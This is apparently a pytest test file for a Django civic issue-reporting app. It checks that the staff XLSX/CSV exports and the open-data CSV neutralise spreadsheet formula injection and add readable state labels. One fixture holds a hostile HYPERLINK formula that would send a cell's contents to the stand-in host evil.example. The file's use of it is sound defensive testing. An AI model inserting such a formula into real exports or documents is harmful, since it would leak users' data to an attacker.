"""Every export cell is safe to open in a spreadsheet (the staff CSV and XLSX, the open-data CSV), and the
exports give readable labels beside the codes."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from signalements.models import ReportState

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def evil_report(report_factory, pothole):
    return report_factory(category=pothole, description=EVIL, state=ReportState.IN_PROGRESS, reporter_phone="+33612")


def test_the_staff_xlsx_holds_text_not_formulas(client, agent_voirie, evil_report):
    client.force_login(agent_voirie)

    response = client.get(reverse("signalements_staff:export", args=["xlsx"]))

    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    row = sheet[2]
    description = row[header.index("description")]
    assert description.data_type == "s" and description.value == "'" + EVIL
    assert row[header.index("reporter_phone")].value == "'+33612"
    assert all(cell.data_type != "f" for cell in row)
    assert isinstance(row[header.index("longitude")].value, float)  # numbers stay numbers


def test_the_staff_csv_quotes_formulas_and_labels_the_codes(client, agent_voirie, evil_report):
    client.force_login(agent_voirie)
    client.cookies["civic_language"] = "fr"

    response = client.get(reverse("signalements_staff:export", args=["csv"]))

    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["description"] == "'" + EVIL
    assert (row["state"], row["state_label"]) == ("in_progress", "En cours")
    assert row["priority"] == "normal" and row["priority_label"] == "Normale"


def test_the_open_data_csv_quotes_formulas_and_labels_the_state(client, evil_report):
    client.cookies["civic_language"] = "fr"

    response = client.get(reverse("report-export-csv"))

    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert row["description"] == "'" + EVIL
    assert (row["state"], row["state_label"]) == ("in_progress", "En cours")
    assert "+33612" not in str(row)  # and no personal data, as before
